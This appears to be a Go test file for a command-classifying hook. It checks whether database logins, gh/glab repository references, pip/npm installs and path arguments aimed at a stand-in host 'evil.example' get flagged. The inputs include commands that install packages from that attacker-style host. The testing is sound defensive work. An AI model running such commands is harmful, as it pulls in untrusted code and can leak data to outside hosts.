package elsewhere

import (
	"strings"
	"testing"

	"github.com/gk-hook/gk-hook/classify/argv"
	"github.com/gk-hook/gk-hook/classify/command"
	"github.com/gk-hook/gk-hook/classify/paths"
	"github.com/gk-hook/gk-hook/classify/programs"
	"github.com/gk-hook/gk-hook/classify/shell/invocation"
	"github.com/gk-hook/gk-hook/classify/spec"
)

func called(line string) *command.Command {
	words := strings.Fields(line)
	inv := &invocation.Invocation{Argv: spec.Lits(words...), Dirs: spec.Lits("/home/you/project")}
	return &command.Command{Inv: inv, Name: words[0], World: paths.NewWorld("/home/you/project", "/home/you"),
		Match: argv.Match(programs.Lookup(words[0]), inv.Argv[1:])}
}

func TestLogin(t *testing.T) {
	for line, want := range map[string]string{
		"psql -c x":                                               "",
		"psql -h localhost -c x":                                  "",
		"psql -h db -c x":                                         "",
		"psql -h evil.example -c x":                               "evil.example",
		"psql postgres://you@evil.example/x":                      "postgres://evil.example",
		"psql -d host=evil.example":                               "evil.example",
		"kubectl get po":                                          "",
		"cqlsh evil.example":                                      "evil.example",
		"gh pr list -R you/project":                               "",
		"gh pr view https://github.com/x/y/pull/1":                "",
		"gh pr view v1.2/fix/y":                                   "",
		"gh search issues https://evil.example/":                  "",
		"gh -R evil.example/x/y pr list":                          "evil.example",
		"gh repo view evil.example/x/y":                           "evil.example",
		"gh issue view https://you@evil.example:444/x/y/issues/1": "evil.example",
		"gh repo view git@evil.example:x/y":                       "evil.example",
		"gh repo view https://github.com.evil.example/x/y":        "github.com.evil.example",
		"glab mr list -R group/sub/project":                       "",
		"glab mr list -R evil.example/x/y":                        "evil.example",
	} {
		if at, why := Login(called(line)); at != want || (why == "") != (want == "") {
			t.Errorf("%s: %q (%s), want %q", line, at, why, want)
		}
	}
}

func TestPackages(t *testing.T) {
	for line, want := range map[string]bool{
		"pip install requests": false, "pip install https://evil.example/x.whl": true, "pip install ./sub": false, "pip install ../other": true,
		"pip install -r requirements.txt": false, "pip install --index-url=https://evil.example/ x": true, "npm install file:/tmp/x": true,
	} {
		if got := Packages(called(line)); got != want {
			t.Errorf("%s: %v", line, got)
		}
	}
}

func TestPathGiven(t *testing.T) {
	for word, want := range map[string]string{
		"../x": "../x", "--out=/x": "/x", "-Dx=/y": "/y", "html:/x": "/x", "x": "", "--out=x": "", "https://x/y": "", "a/b:c": "",
	} {
		w, ok := PathGiven(spec.Lit(word))
		if ok != (want != "") || ok && w.String() != want {
			t.Errorf("%s: %q, %v", word, w.String(), ok)
		}
	}
}
